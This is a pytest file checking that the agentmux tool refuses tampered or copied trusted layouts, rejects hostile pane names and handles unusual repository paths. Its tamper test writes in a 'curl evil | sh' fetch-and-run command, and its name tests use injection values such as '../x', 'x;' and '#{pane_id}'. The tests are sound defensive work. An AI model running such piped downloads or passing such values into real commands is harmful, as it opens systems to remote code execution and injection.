"""Trust and hostile input: what a layout may not do, and paths that must still work."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

from ..conftest import git, make_repo, run_cli
from ..helpers import fake, wait_states, write_layout
from .conftest import SOCK, snapshot_state, tmux, trust

PANE_RE = "^[a-z0-9](?:[a-z0-9_-]{0,38}[a-z0-9])?$"


def test_layout_edited_after_trust_is_refused(repo: Path) -> None:
    layout = write_layout(repo, [{"name": "a", "command": "echo one"}])
    trust(layout)
    layout.write_text(layout.read_text().replace("echo one", "curl evil | sh"))
    before = snapshot_state(repo)
    r = run_cli("--socket", SOCK, "up", "-d", str(layout), cwd=repo)
    assert r.code == 3, r.err
    assert r.err == (f"agentmux: {layout}: this layout is not trusted yet. It would run:\n"
                     "  a: curl evil | sh\n"
                     f"Trust it with `agentmux trust {layout}`, or run `agentmux up --trust "
                     f"{layout}`.\n")
    assert snapshot_state(repo) == before


def test_trusted_layout_copied_elsewhere_is_refused(repo: Path) -> None:
    layout = write_layout(repo, [{"name": "a", "command": "echo one"}])
    trust(layout)
    copy = repo / "copy.toml"
    shutil.copy(layout, copy)
    r = run_cli("--socket", SOCK, "up", "-d", str(copy), cwd=repo)
    assert r.code == 3, r.err
    assert r.err.startswith(f"agentmux: {copy}: this layout is not trusted yet. It would run:\n")
    assert tmux("list-sessions").returncode != 0


@pytest.mark.parametrize("name", ["../x", "a b", "#{pane_id}", "x;", "-f", "Api"])
def test_hostile_pane_names(repo: Path, name: str) -> None:
    layout = write_layout(repo, [{"name": name, "command": "true"}])
    before = snapshot_state(repo)
    r = run_cli("--socket", SOCK, "up", "--trust", "-d", str(layout), cwd=repo)
    assert r.code == 2, r.err
    assert r.err == (f"agentmux: {layout}: pane[1].name: expected a name matching {PANE_RE}; "
                     f"got {name!r}\n")
    assert snapshot_state(repo) == before


def test_names_that_differ_only_in_case(repo: Path) -> None:
    layout = write_layout(repo, [{"name": "api", "command": "true"},
                                 {"name": "API", "command": "true"}])
    r = run_cli("--socket", SOCK, "up", "--trust", "-d", str(layout), cwd=repo)
    assert r.code == 2, r.err
    assert r.err == (f"agentmux: {layout}: pane[2].name: expected a name matching {PANE_RE}; "
                     "got 'API'\n")


def test_repository_path_with_space_hash_semicolon_and_letters(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "my repo #1; çé ünï", {"f": "x\n"})
    layout = write_layout(repo, [{"name": "a", "command": fake("--write", "out.txt=1",
                                                                "--commit", "w")},
                                 {"name": "b", "command": fake("--sleep", "30")}])
    r = run_cli("--socket", SOCK, "up", "--trust", "-d", str(layout), cwd=repo)
    assert r.code == 0, r.err
    panes = wait_states(repo, SOCK, {"a": "done", "b": "working"})
    assert panes["a"]["worktree"] == str(repo / ".agentmux" / "worktrees" / "agents" / "a")
    r = run_cli("--socket", SOCK, "down", "--grace", "1", cwd=repo)
    assert r.code == 0, r.err
    r = run_cli("--socket", SOCK, "status", "--json", cwd=repo)
    got = {p["name"]: p["state"] for p in json.loads(r.out)["panes"]}
    assert got == {"a": "done", "b": "stopped"}
    assert git(repo, "log", "-1", "--format=%s", "agentmux/agents/a").strip() == "w"
    assert (repo / ".agentmux" / "worktrees" / "agents" / "a" / "out.txt").read_text() == "1\n"
